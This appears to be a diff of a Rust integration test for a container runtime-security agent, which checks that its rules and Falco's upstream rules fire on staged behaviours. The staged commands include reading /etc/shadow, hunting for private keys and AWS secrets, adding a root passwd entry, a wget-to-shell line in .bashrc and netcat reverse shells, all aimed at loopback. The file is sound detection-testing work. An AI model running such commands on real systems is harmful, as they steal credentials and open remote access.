@@ -82,10 +82,20 @@ struct Case {
     priority: &'static str,
     docker_args: &'static [&'static str],
     how: How,
+    /// Falco's upstream rules (`crates/rules/tests/falco-upstream/`) this
+    /// behaviour trips too (docs/falco-coverage.md: the rows this rule covers).
+    upstream: &'static [&'static str],
+}
+
+impl Case {
+    /// The upstream Falco rules that must fire on this behaviour as well.
+    const fn up(self, upstream: &'static [&'static str]) -> Case {
+        Case { upstream, ..self }
+    }
 }
 
 const fn case(rule: &'static str, priority: &'static str, how: How) -> Case {
-    Case { rule, priority, docker_args: &[], how }
+    Case { rule, priority, docker_args: &[], how, upstream: &[] }
 }
 
 const fn case_with(
@@ -94,7 +104,7 @@ const fn case_with(
     docker_args: &'static [&'static str],
     how: How,
 ) -> Case {
-    Case { rule, priority, docker_args, how }
+    Case { rule, priority, docker_args, how, upstream: &[] }
 }
 
 /// One (or more) behaviour per default rule.
@@ -102,7 +112,7 @@ fn cases() -> Vec<Case> {
     use How::*;
     vec![
         // ---- execution
-        case("Terminal shell in container", "Notice", ExecTty("echo interactive; true")),
+        case("Terminal shell in container", "Notice", ExecTty("echo interactive; true")).up(&["Terminal shell in container"]),
         case_with(
             "Terminal shell in privileged container",
             "Critical",
@@ -117,42 +127,66 @@ fn cases() -> Vec<Case> {
         case(
             "Shell spawned by web or database server in container",
             "Warning",
-            Sh("ln -s /usr/local/bin/rtest /tmp/nginx && /tmp/nginx spawn /bin/sh -c 'echo from-nginx; true'"),
-        ),
+            Sh("ln -s /usr/local/bin/rtest /tmp/nginx && /tmp/nginx spawn /bin/sh -c 'echo from-nginx > /dev/tcp/127.0.0.1/9 2>/dev/null; true'"),
+        ).up(&["Run shell untrusted", "Web Server Spawned Shell", "Reverse Shell from Web Server"]),
         case("Package management process in container", "Warning", Sh("rpm -i /tmp/missing.rpm; true")),
         case(
             "Package management process in container",
             "Warning",
             Sh("ln -s /usr/local/bin/rtest /tmp/pip && /tmp/pip nop install requests"),
-        ),
+        )
+        .up(&["Launch Package Management Process in Container"]),
         case(
             "Drifted executable run in container",
             "Warning",
             Sh("cp /usr/local/bin/rtest /root/dropped && /root/dropped nop drift"),
-        ),
+        ).up(&["Drop and execute new binary in container"]),
         case(
             "Suspicious program spawned by web or database server in container",
             "Warning",
             Sh("ln -s /usr/local/bin/rtest /tmp/nginx && /tmp/nginx spawn /usr/bin/id"),
-        ),
+        ).up(&["Web Server Spawned Suspicious Child Process"]),
+        case(
+            "Suspicious program spawned by web or database server in container",
+            "Warning",
+            Sh("ln -s /usr/local/bin/rtest /tmp/mysqld && /tmp/mysqld spawn /usr/bin/id"),
+        )
+        .up(&["DB program spawned process"]),
         case(
             "Cluster or runtime client launched in container",
             "Notice",
             Sh("ln -s /usr/local/bin/rtest /tmp/kubectl && /tmp/kubectl nop get secrets -A"),
-        ),
+        ).up(&["Kubernetes Client Tool Launched in Container"]),
         case(
             "Backdoored xz library loaded in container",
             "Warning",
-            Sh("echo ELF > /tmp/liblzma.so.5.6.1 && cat /tmp/liblzma.so.5.6.1 > /dev/null"),
-        ),
+            // and a process named sshd (a script) reading it.
+            Sh("echo ELF > /tmp/liblzma.so.5.6.1 && cat /tmp/liblzma.so.5.6.1 > /dev/null \
+                && printf '#!/bin/sh\\nread l < /tmp/liblzma.so.5.6.1\\n' > /tmp/sshd && chmod +x /tmp/sshd && /tmp/sshd"),
+        ).up(&["Backdoored library loaded into SSHD (CVE-2024-3094)"]),
         case(
             "Network tool run by JavaScript package install in container",
             "Warning",
             // npm's install script runs a shell that runs nc (to a closed loopback port).
-            Sh("ln -s /usr/local/bin/rtest /tmp/npm && /tmp/npm spawn /bin/sh -c 'nc -w 1 127.0.0.1 9; true' install"),
-        ),
+            Sh("ln -s /usr/local/bin/rtest /tmp/nc && ln -s /usr/local/bin/rtest /tmp/npm && /tmp/npm spawn /bin/sh -c 'nc -w 1 127.0.0.1 9; /tmp/nc nop 127.0.0.1 9; true' install"),
+        ).up(&["Network Tool Executed During NPM Package Install"]),
         // ---- credential access
-        case("Sensitive account file read in container", "Warning", Sh("cat /etc/shadow > /dev/null")),
+        case("Sensitive account file read in container", "Warning", Sh("cat /etc/shadow > /dev/null")).up(&["Read sensitive file untrusted"]),
+        case(
+            "Sensitive account file read in container",
+            "Warning",
+            // The path as passed climbs twice (fd.nameraw), from a non-shell parent.
+            Run(&["/usr/local/bin/rtest", "spawn", "/bin/cat", "/etc/../etc/../etc/shadow"]),
+        )
+        .up(&["Directory traversal monitored file read"]),
+        case(
+            "Sensitive account file read in container",
+            "Warning",
+            // A server process (a script named nginx) reading /etc/shadow more
+            // than 5 s after it started.
+            Sh("printf '#!/bin/sh\\nsleep 6\\nread l < /etc/shadow\\n' > /tmp/nginx && chmod +x /tmp/nginx && /tmp/nginx"),
+        )
+        .up(&["Read sensitive file trusted after startup"]),
         case(
             "Private key or credential file read in container",
             "Warning",
@@ -167,25 +201,27 @@ fn cases() -> Vec<Case> {
             "Environment of another process read in container",
             "Warning",
             Sh("sleep 5 & cat /proc/$!/environ > /dev/null; kill $!; true"),
-        ),
+        ).up(&["Read environment variable from /proc files"]),
         case(
             "Search for private keys or cloud credentials in container",
             "Warning",
-            Sh("grep -rl 'BEGIN RSA PRIVATE KEY' /etc /root 2>/dev/null; true"),
-        ),
+            Sh("grep -rl 'BEGIN RSA PRIVATE KEY' /etc /root 2>/dev/null; ln -s /usr/local/bin/rtest /tmp/grep \
+                && /tmp/grep nop -rl 'BEGIN RSA PRIVATE KEY' /etc; true"),
+        ).up(&["Search Private Keys or Passwords"]),
         case(
             "Search for private keys or cloud credentials in container",
             "Warning",
-            Sh("grep -ri aws_secret_access_key /root /tmp 2>/dev/null; true"),
-        ),
-        case("Link to sensitive file created in container", "Warning", Sh("ln -s /etc/shadow /tmp/shadow-link")),
-        case("Link to sensitive file created in container", "Warning", Sh("ln /etc/shadow /tmp/shadow-hard; true")),
+            Sh("grep -ri aws_secret_access_key /root /tmp 2>/dev/null; ln -s /usr/local/bin/rtest /tmp/grep \
+                && /tmp/grep nop -ri aws_secret_access_key /root; true"),
+        ).up(&["Find AWS Credentials"]),
+        case("Link to sensitive file created in container", "Warning", Sh("ln -s /etc/shadow /tmp/shadow-link")).up(&["Create Symlink Over Sensitive Files"]),
+        case("Link to sensitive file created in container", "Warning", Sh("ln /etc/shadow /tmp/shadow-hard; true")).up(&["Create Hardlink Over Sensitive Files"]),
         case(
             "SSH client data read in container",
             "Warning",
             Sh("mkdir -p /root/.ssh && echo 'db1 ssh-ed25519 AAAAC3Nza' > /root/.ssh/known_hosts \
                 && cat /root/.ssh/known_hosts > /dev/null"),
-        ),
+        ).up(&["Read ssh information"]),
         case_with(
             "Packet socket created in container",
             "Notice",
@@ -193,7 +229,7 @@ fn cases() -> Vec<Case> {
             // nothing is sent, and there is no network anyway.
             &["--network", "none"],
             Sh("arping -c 1 -w 1 -I lo 127.0.0.1; true"),
-        ),
+        ).up(&["Packet socket created in container"]),
         case_with(
             "Cloud metadata service contacted from container",
             "Notice",
@@ -206,41 +242,47 @@ fn cases() -> Vec<Case> {
         case(
             "Write below binary directory in container",
             "Warning",
-            Sh("echo planted > /usr/local/bin/planted"),
-        ),
-        case("Write below etc in container", "Warning", Sh("echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd")),
+            Sh("echo planted > /usr/local/bin/planted && echo planted > /usr/bin/planted"),
+        ).up(&["Write below binary dir", "Write below monitored dir"]),
+        case(
+            "Write below etc in container",
+            "Warning",
+            Sh("echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd && mkdir -p /etc/apt \
+                && echo 'deb http://127.0.0.1:9/ evil main' >> /etc/apt/sources.list"),
+        )
+        .up(&["Write below etc", "Update Package Repository"]),
         case(
             "Cron job modified in container",
             "Warning",
             Sh("mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/evil"),
-        ),
+        ).up(&["Schedule Cron Jobs"]),
         case(
             "SSH authorized keys modified in container",
             "Warning",
             Sh("mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3Nza test' >> /root/.ssh/authorized_keys"),
-        ),
+        ).up(&["Adding ssh keys to authorized_keys"]),
         case(
             "Shell configuration file modified in container",
             "Warning",
-            Sh("echo 'wget -q -O- http://127.0.0.1:1/x | sh' >> /root/.bashrc"),
-        ),
+            Sh("echo 'wget -q -O- http://127.0.0.1:1/x | sh' >> /root/.bashrc && echo 'true' | tee -a /root/.bashrc"),
+        ).up(&["Modify Shell Configuration File"]),
         case(
             "Binary directory entries changed in container",
             "Warning",
-            Sh("mv /usr/bin/od /usr/bin/od.orig"),
-        ),
+            Sh("mv /usr/bin/od /usr/bin/od.orig && mkdir /usr/bin/rampart-dir"),
+        ).up(&["Modify binary dirs", "Mkdir binary dirs"]),
         // ---- privilege escalation
         case(
             "Setuid or setgid bit set in container",
             "Warning",
             Run(&["/usr/local/bin/rtest", "chmod-suid", "/tmp/suid-shell"]),
-        ),
+        ).up(&["Set Setuid or Setgid bit"]),
         case_with(
             "Non-root process set its user id to root in container",
             "Warning",
             &["--user", "1000:1000"],
             Run(&["/usr/local/bin/rtest", "setuid", "0"]),
-        ),
+        ).up(&["Non sudo setuid"]),
         case(
             "Capabilities raised with capset in container",
             "Warning",
@@ -250,18 +292,18 @@ fn cases() -> Vec<Case> {
             "Local privilege escalation exploit invoked in container",
             "Critical",
             Sh("ln -s /usr/local/bin/rtest /tmp/sudoedit && /tmp/sudoedit -s 'x\\'; true"),
-        ),
+        ).up(&["Sudo Potential Privilege Escalation"]),
         case(
             "Local privilege escalation exploit invoked in container",
             "Critical",
             Sh("ln -s /usr/local/bin/rtest /tmp/pkexec && /tmp/pkexec; true"),
-        ),
+        ).up(&["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"]),
         // ---- defense evasion
         case(
             "Shell history deleted or truncated in container",
             "Warning",
             Sh("echo ls > /root/.ash_history && rm /root/.ash_history"),
-        ),
+        ).up(&["Delete or rename shell history"]),
         case(
             "Shell history deleted or truncated in container",
             "Warning",
@@ -270,13 +312,13 @@ fn cases() -> Vec<Case> {
         case(
             "Log files deleted or truncated in container",
             "Warning",
-            Sh("mkdir -p /var/log && echo x >> /var/log/auth.log && rm /var/log/auth.log"),
-        ),
+            Sh("mkdir -p /var/log && echo x >> /var/log/auth.log && : > /var/log/auth.log && rm /var/log/auth.log"),
+        ).up(&["Clear Log Activities"]),
         case(
             "Fileless execution from memfd in container",
             "Critical",
             Run(&["/usr/local/bin/rtest", "memfd-exec", "rules"]),
-        ),
+        ).up(&["Fileless execution via memfd_create"]),
         case(
             "Execution from temporary directory in container",
             "Warning",
@@ -288,15 +330,15 @@ fn cases() -> Vec<Case> {
             // Docker mounts /dev/shm noexec by default; an exec-able tmpfs there.
             &["--tmpfs", "/dev/shm:rw,exec"],
             Sh("cp /usr/local/bin/rtest /dev/shm/payload && /dev/shm/payload nop shm-exec"),
-        ),
-        case("Anti-debugging with PTRACE_TRACEME in container", "Notice", Helper("traceme", &[])),
+        ).up(&["Execution from /dev/shm"]),
+        case("Anti-debugging with PTRACE_TRACEME in container", "Notice", Helper("traceme", &[])).up(&["PTRACE anti-debug attempt"]),
         case(
             "Base64-decoded payload piped to shell in container",
             "Warning",
             // "echo b64-payload"
             Sh("echo ZWNobyBiNjQtcGF5bG9hZA== | base64 -d | sh"),
-        ),
-        case("File created directly below /dev in container", "Warning", Sh("echo stash > /dev/.cache")),
+        ).up(&["Decoding Payload in Container"]),
+        case("File created directly below /dev in container", "Warning", Sh("echo stash > /dev/.cache")).up(&["Create files below dev"]),
         case(
             "Hidden file or directory created in temporary directory in container",
             "Notice",
@@ -305,14 +347,15 @@ fn cases() -> Vec<Case> {
         case(
             "Package database modified outside package manager in container",
             "Warning",
-            Sh("mkdir -p /var/lib/dpkg && echo 'Package: evil' >> /var/lib/dpkg/status"),
-        ),
+            Sh("mkdir -p /var/lib/dpkg /var/lib/rpm && echo 'Package: evil' >> /var/lib/dpkg/status \
+                && echo evil >> /var/lib/rpm/Packages"),
+        ).up(&["Write below rpm database"]),
         // ---- discovery
         case(
             "Network scanning tool launched in container",
             "Notice",
             Sh("ln -s /usr/local/bin/rtest /tmp/nmap && /tmp/nmap nop -sS 127.0.0.1"),
-        ),
+        ).up(&["Launch Suspicious Network Tool in Container"]),
         case("Network discovery command in container", "Notice", Sh("netstat -an > /dev/null; true")),
         case("Interactive reconnaissance command in container", "Notice", ExecTty("/usr/bin/id; /bin/uname -a; true")),
         case(
@@ -329,8 +372,8 @@ fn cases() -> Vec<Case> {
         case(
             "Reverse shell via netcat or socat in container",
             "Critical",
-            Sh("nc -w 1 127.0.0.1 9 -e /bin/sh; true"),
-        ),
+            Sh("nc -w 1 127.0.0.1 9 -e /bin/sh; ln -s /usr/local/bin/rtest /tmp/nc && /tmp/nc nop 127.0.0.1 9 -e /bin/sh; true"),
+        ).up(&["Netcat Remote Code Execution in Container"]),
         case(
             "Reverse shell command line in container",
             "Critical",
@@ -350,8 +393,10 @@ fn cases() -> Vec<Case> {
         case(
             "Remote file copy tool launched in container",
             "Notice",
-            Sh("wget -q -T 1 -O /tmp/payload http://127.0.0.1:9/x 2>/dev/null; true"),
-        ),
+            Sh("wget -q -T 1 -O /tmp/payload http://127.0.0.1:9/x 2>/dev/null; ln -s /usr/local/bin/rtest /tmp/wget \
+                && /tmp/wget nop -O /tmp/payload http://127.0.0.1:9/x; ln -s /usr/local/bin/rtest /tmp/scp \
+                && /tmp/scp nop 127.0.0.1:/etc/hosts /tmp/hosts; true"),
+        ).up(&["Launch Remote File Copy Tools in Container", "Launch Ingress Remote File Copy Tools in Container"]),
         case(
             "Archive streamed out of container through the runtime",
             "Notice",
@@ -367,17 +412,18 @@ fn cases() -> Vec<Case> {
             "Mining pool address in command line in container",
             "Critical",
             Run(&["/usr/local/bin/rtest", "nop", "-o", "stratum+tcp://127.0.0.1:3333"]),
-        ),
+        ).up(&["Detect crypto miners using the Stratum protocol"]),
         case(
             "Crypto miner launched in container",
             "Critical",
             Sh("ln -s /usr/local/bin/rtest /tmp/xmrig && /tmp/xmrig nop --donate-level 1"),
-        ),
+        ).up(&["Known Cryptominer Process Executed"]),
         case(
             "Data destruction tool launched in container",
             "Warning",
-            Sh("echo secret > /tmp/evidence && shred -u /tmp/evidence"),
-        ),
+            Sh("echo secret > /tmp/evidence && shred -u /tmp/evidence && ln -s /usr/local/bin/rtest /tmp/shred \
+                && /tmp/shred nop -u /tmp/evidence"),
+        ).up(&["Remove Bulk Data from Disk"]),
         // ---- container escape
         case_with(
             "Mount attempted in container",
@@ -385,14 +431,16 @@ fn cases() -> Vec<Case> {
             POWERFUL,
             Sh("mkdir -p /mnt/t && mount -t tmpfs none /mnt/t && umount /mnt/t"),
         ),
-        case(
+        case_with(
             "Cgroup release agent written in container",
             "Critical",
+            // Falco's rule wants CAP_SYS_ADMIN in the writer's effective set.
+            POWERFUL,
             // A regular file named like the cgroup v1 control file: the rule keys
             // on the name (attackers mount cgroupfs anywhere); the host's real
             // release_agent is never touched.
             Sh("mkdir -p /tmp/cgrp && echo /tmp/x > /tmp/cgrp/release_agent"),
-        ),
+        ).up(&["Detect release_agent File Container Escapes"]),
         // /proc/sys and /sys/fs/cgroup are read-only in a default container: these
         // are attempts (EROFS), at names that do not exist, so that nothing would
         // change even on a host that mounted them writable.
@@ -412,13 +460,13 @@ fn cases() -> Vec<Case> {
             // A socket of the container's own, named like the Docker API socket.
             Run(&["/usr/local/bin/rtest", "connect-unix", "/run/docker.sock"]),
         ),
-        case_with("Namespace entered with setns in container", "Critical", POWERFUL, Sh("nsenter -t 1 -u true")),
+        case_with("Namespace entered with setns in container", "Critical", POWERFUL, Sh("nsenter -t 1 -u true")).up(&["Change thread namespace"]),
         case_with(
             "Namespaces created with unshare in container",
             "Critical",
             POWERFUL,
             Run(&["/usr/local/bin/rtest", "unshare", "uts"]),
-        ),
+        ).up(&["Change namespace privileges via unshare"]),
         case_with(
             "Kernel module load attempted from container",
             "Critical",
@@ -431,7 +479,7 @@ fn cases() -> Vec<Case> {
             "Process attached with ptrace in container",
             "Critical",
             Run(&["/usr/local/bin/rtest", "ptrace", "attach"]),
-        ),
+        ).up(&["PTRACE attached to process"]),
         case_with("BPF used from container", "Critical", UNCONFINED, Run(&["/usr/local/bin/rtest", "bpf"])),
         case(
             "Raw disk or memory device opened in container",
@@ -444,7 +492,7 @@ fn cases() -> Vec<Case> {
             "Warning",
             // A directory of the container's own, where a DaemonSet would mount the host.
             Sh("mkdir -p /host/etc && echo 'root::0:0:99999:7:::' > /host/etc/shadow"),
-        ),
+        ).up(&["Container Access to Host Sensitive Paths"]),
         case(
             "File system debugger launched in container",
             "Warning",
@@ -554,6 +602,144 @@ const TESTED_ELSEWHERE: &[&str] = &[
     "Traffic blocked by container isolation",
 ];
 
+/// Falco's shipped rule files, in Falco's load order (vendored unchanged).
+fn upstream_rule_files() -> Vec<String> {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/tests/falco-upstream");
+    ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"]
+        .iter()
+        .map(|f| dir.join(f).display().to_string())
+        .collect()
+}
+
+/// `rampart run` arguments loading only Falco's upstream files.
+fn upstream_agent_args() -> Vec<String> {
+    let mut args = vec!["--no-default-rules".to_string()];
+    for f in upstream_rule_files() {
+        args.push("--rules".into());
+        args.push(f);
+    }
+    args
+}
+
+/// Every `- rule:` name in the upstream files.
+fn upstream_rule_names() -> Vec<String> {
+    let mut names = Vec::new();
+    for f in upstream_rule_files() {
+        let text = std::fs::read_to_string(&f).unwrap_or_else(|e| panic!("{f}: {e}"));
+        names.extend(text.lines().filter_map(|l| l.strip_prefix("- rule: ")).map(|n| n.trim().to_string()));
+    }
+    names
+}
+
+/// Upstream rules no behaviour case trips, and why (docs/falco-coverage.md).
+const UPSTREAM_NOT_EXERCISED: &[(&str, &str)] = &[
+    // `enabled: false` in falco-sandbox_rules.yaml.
+    ("Unexpected inbound connection source", "disabled in its file"),
+    ("Read Shell Configuration File", "disabled in its file"),
+    ("Interpreted procs inbound network activity", "disabled in its file"),
+    ("Interpreted procs outbound network activity", "disabled in its file"),
+    ("Unexpected K8s NodePort Connection", "disabled in its file"),
+    ("Create Hidden Files or Directories", "disabled in its file"),
+    ("Detect outbound connections to common miner pool ports", "disabled in its file"),
+    ("Container Drift Detected (chmod)", "disabled in its file"),
+    ("Container Drift Detected (open+create)", "disabled in its file"),
+    ("Container Run as Root User", "disabled in its file"),
+    ("Java Process Class File Download", "disabled in its file"),
+    ("Modify Container Entrypoint", "disabled in its file"),
+    // Events or fields the sensor does not provide.
+    ("Redirect STDOUT/STDIN to Network Connection in Container", "dup/dup2/dup3 not captured"),
+    ("Program run with disallowed http proxy env", "no process environment (proc.env)"),
+    (
+        "Potential Local Privilege Escalation via Environment Variables Misuse",
+        "no process environment (proc.env)",
+    ),
+    ("Unexpected UDP Traffic", "sendto/recvfrom not captured"),
+    ("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "userfaultfd not captured"),
+    // Container start events (evt.type=container): rampart audit's findings.
+    ("Launch Privileged Container", "container start event: rampart audit `privileged`"),
+    ("Launch Excessively Capable Container", "container start event: rampart audit `cap-added`"),
+    ("Launch Sensitive Mount Container", "container start event: rampart audit `sensitive-mount`"),
+    ("Launch Disallowed Container", "container start event; an image allow-list template"),
+    // Host only: Falco's condition excludes containers.
+    ("User mgmt binaries", "host only (excludes containers)"),
+    ("Launch Suspicious Network Tool on Host", "host only"),
+    ("Netcat/Socat Remote Code Execution on Host", "host only"),
+    // No rampart default rule (not adopted: noise in containers).
+    ("Write below root", "no rampart default rule (not adopted)"),
+    // Conditions no single-container behaviour meets.
+    (
+        "Network Connection outside Local Subnet",
+        "scoped to a Kubernetes namespace list, empty by default (rampart: tests/netpolicy.rs)",
+    ),
+    ("System user interactive", "needs an sshd/login session of a system account (bin, daemon, nobody ...)"),
+    // Falco's `outbound`/`inbound_outbound` need a connect that succeeds (or is
+    // in progress) to an address outside 127/8 and RFC 1918: the test containers
+    // have loopback only (rampart's rules key on the attempt, which is tested).
+    ("Contact EC2 Instance Metadata Service From Container", "needs a successful connect to 169.254.169.254"),
+    ("Contact cloud metadata service from container", "needs a successful connect to 169.254.169.254"),
+    ("System procs network activity", "needs a successful connect outside loopback"),
+    ("Disallowed SSH Connection Non Standard Port", "needs a successful connect outside loopback"),
+    ("Contact K8S API Server From Container", "needs a successful connect to the API server's address"),
+    // container.privileged=true: `--privileged` does not work on the test
+    // machines (DESIGN.md).
+    ("Mount Launched in Privileged Container", "needs a --privileged container"),
+    ("Debugfs Launched in Privileged Container", "needs a --privileged container"),
+    // open_read/open_write need the open to succeed: no block device in a
+    // test container (rampart reports the attempt).
+    ("Privileged Container Device Access", "needs a successful open of a disk device"),
+    // Not tripped by the test's behaviour; not investigated yet.
+    (
+        "Linux Kernel Module Injection Detected",
+        "wants CAP_SYS_MODULE effective (thread.cap_effective); the test container has none",
+    ),
+    (
+        "Basic Interactive Reconnaissance",
+        "wants the command on a terminal leading its process group (an interactive shell's job); \
+         busybox sh under `docker exec -t`, even with `set -m`, did not make one: to investigate",
+    ),
+    ("BPF Program Not Profiled", "wants BPF_PROG_LOAD; the test image's rtest does BPF_MAP_CREATE only"),
+    (
+        "Exfiltrating Artifacts via Kubernetes Control Plane",
+        "did not fire on `docker exec tar cf - /etc/passwd` (container_entrypoint parent check): to investigate",
+    ),
+];
+
+#[test]
+fn every_upstream_rule_is_exercised_or_explained() {
+    let all: Vec<String> = upstream_rule_names();
+    assert_eq!(all.len(), 93, "Falco's three files hold 93 rules: {all:#?}");
+    let all: BTreeSet<String> = all.into_iter().collect();
+    let exercised: BTreeSet<String> =
+        cases().iter().flat_map(|c| c.upstream.iter().map(|u| u.to_string())).collect();
+    let explained: BTreeSet<String> = UPSTREAM_NOT_EXERCISED.iter().map(|(r, _)| r.to_string()).collect();
+    let both: Vec<&String> = exercised.intersection(&explained).collect();
+    assert!(both.is_empty(), "upstream rules both exercised and explained away: {both:#?}");
+    let covered: BTreeSet<String> = exercised.union(&explained).cloned().collect();
+    let left: Vec<&String> = all.difference(&covered).collect();
+    let unknown: Vec<&String> = covered.difference(&all).collect();
+    assert!(left.is_empty(), "upstream rules neither exercised nor explained: {left:#?}");
+    assert!(unknown.is_empty(), "names not in the upstream files: {unknown:#?}");
+    // Every rule disabled in its file is explained as such.
+    for f in upstream_rule_files() {
+        let text = std::fs::read_to_string(&f).unwrap();
+        for block in text.split("\n- ").filter(|b| b.starts_with("rule: ")) {
+            let name = block.lines().next().unwrap()["rule: ".len()..].trim();
+            if block.lines().any(|l| l.trim() == "enabled: false") {
+                assert!(
+                    UPSTREAM_NOT_EXERCISED.iter().any(|(r, why)| *r == name && why.contains("disabled")),
+                    "{name} is disabled in {f} but not listed as such"
+                );
+            }
+        }
+    }
+    eprintln!(
+        "upstream rules: {} exercised, {} explained, of {}",
+        exercised.len(),
+        explained.len(),
+        all.len()
+    );
+}
+
 #[test]
 fn every_default_rule_has_a_behaviour() {
     let names: BTreeSet<String> = default_rule_names().into_iter().collect();
@@ -587,9 +773,14 @@ fn default_rule_files_check_clean() {
 
 #[test]
 #[ignore = "privileged: needs root, BPF and dockerd (scripts/test.sh runs it)"]
-fn default_rules_fire_on_real_containers() {
+fn default_and_upstream_rules_fire_on_real_containers() {
     preflight();
+    // Two agents side by side over the same containers: rampart's defaults, and
+    // Falco's three upstream files alone.
     let mut agent = Agent::start_run(&[]);
+    let up_args = upstream_agent_args();
+    let up_refs: Vec<&str> = up_args.iter().map(String::as_str).collect();
+    let mut upstream = Agent::start_run(&up_refs);
     let cases = cases();
     let t0 = Instant::now();
     let containers: Vec<Container> = cases.iter().map(start).collect();
@@ -607,12 +798,42 @@ fn default_rules_fire_on_real_containers() {
         }
     }
     eprintln!("alerts checked after {:?}", t0.elapsed());
+    let mut up_missing = Vec::new();
+    let mut up_fired = BTreeSet::new();
+    for (case, c) in cases.iter().zip(&containers) {
+        for rule in case.upstream {
+            let left = deadline.saturating_duration_since(Instant::now()).max(Duration::from_secs(1));
+            match upstream
+                .wait_for(left, |v| is_alert(v) && alert_rule(v) == *rule && container_id(v) == c.id)
+            {
+                Some(_) => {
+                    up_fired.insert(*rule);
+                }
+                None => up_missing.push(format!("{rule} (container {}, for {})", c.name, case.rule)),
+            }
+        }
+    }
+    eprintln!("upstream rules fired: {} of {} listed", up_fired.len(), up_fired.len() + up_missing.len());
+    if !up_missing.is_empty() && missing.is_empty() && problems.is_empty() {
+        let alerts: Vec<String> = upstream.events.iter().filter(|v| is_alert(v)).map(alert_brief).collect();
+        panic!(
+            "{} upstream rule(s) did not fire:\n  {}\nall upstream alerts ({}):\n  {}\nupstream agent stderr:\n{}",
+            up_missing.len(),
+            up_missing.join("\n  "),
+            alerts.len(),
+            alerts.join("\n  "),
+            upstream.stderr_text()
+        );
+    }
+    upstream.stop();
     if !missing.is_empty() || !problems.is_empty() {
         let alerts: Vec<String> = agent.events.iter().filter(|v| is_alert(v)).map(alert_brief).collect();
         panic!(
-            "{} rule(s) did not fire:\n  {}\n{} problem(s) with alerts:\n  {}\nall alerts ({}):\n  {}\nagent stderr:\n{}",
+            "{} rule(s) did not fire:\n  {}\n{} upstream rule(s) did not fire:\n  {}\n{} problem(s) with alerts:\n  {}\nall alerts ({}):\n  {}\nagent stderr:\n{}",
             missing.len(),
             missing.join("\n  "),
+            up_missing.len(),
+            up_missing.join("\n  "),
             problems.len(),
             problems.join("\n  "),
             alerts.len(),
@@ -630,6 +851,10 @@ fn default_rules_fire_on_real_containers() {
 fn benign_workloads_raise_nothing_at_warning_or_above() {
     preflight();
     let mut agent = Agent::start_run(&[]);
+    // Falco's upstream files alone, side by side over the same workloads.
+    let up_args = upstream_agent_args();
+    let up_refs: Vec<&str> = up_args.iter().map(String::as_str).collect();
+    let mut upstream = Agent::start_run(&up_refs);
 
     // A web server serving requests over loopback.
     let web = Container::sh(
@@ -686,6 +911,13 @@ fn benign_workloads_raise_nothing_at_warning_or_above() {
         is_alert_of(v, "Write below etc in container", &canary.name)
     });
     agent.collect_for(Duration::from_secs(2));
+    // Falco's "Write below etc" fires on the same canary.
+    upstream.expect_within(
+        &format!("the upstream canary alert in {}", canary.name),
+        Duration::from_secs(30),
+        |v| is_alert_of(v, "Write below etc", &canary.name),
+    );
+    upstream.collect_for(Duration::from_secs(2));
 
     let benign: Vec<&str> = vec![web.name.as_str(), batch.name.as_str(), entry.name.as_str()];
     let loud: Vec<String> = agent
@@ -716,8 +948,39 @@ fn benign_workloads_raise_nothing_at_warning_or_above() {
         .map(alert_brief)
         .collect();
     assert!(shells.is_empty(), "entrypoint shells reported as spawned by a service: {shells:#?}");
+
+    let up_all: Vec<&Value> =
+        upstream.events.iter().filter(|v| is_alert(v) && benign.contains(&container_name(v))).collect();
+    let up_loud: Vec<String> = up_all
+        .iter()
+        .filter(|v| WARNING_OR_ABOVE.contains(&alert_priority(v)))
+        .filter(|v| !UPSTREAM_BENIGN_ALLOWED.iter().any(|(rule, _)| alert_rule(v) == *rule))
+        .map(|v| alert_brief(v))
+        .collect();
+    let up_quiet: Vec<String> = up_all
+        .iter()
+        .filter(|v| !WARNING_OR_ABOVE.contains(&alert_priority(v)))
+        .map(|v| alert_brief(v))
+        .collect();
+    eprintln!(
+        "upstream rules on benign workloads: {} alerts, {} below WARNING: {up_quiet:#?}",
+        up_all.len(),
+        up_quiet.len()
+    );
+    assert!(up_loud.is_empty(), "benign workloads raised upstream alerts at WARNING or above: {up_loud:#?}");
+    upstream.stop();
     agent.stop();
 }
+
+/// Upstream alerts at WARNING or above that Falco itself raises on the benign
+/// workloads (rule, why).
+const UPSTREAM_BENIGN_ALLOWED: &[(&str, &str)] = &[
+    // benign-entry's `tar xf - -C /root` creates /root/tmp/a and /root/tmp/c:
+    // Falco's condition (open_write below / or /root, outside its short list
+    // of known files) holds for any such write, so Falco raises it too. This
+    // noise is why rampart did not adopt the rule (docs/falco-coverage.md).
+    ("Write below root", "benign-entry: tar extracting below /root"),
+];
 
 const BROKEN_RULES: &str = "\
 - rule: Broken rule with unknown field
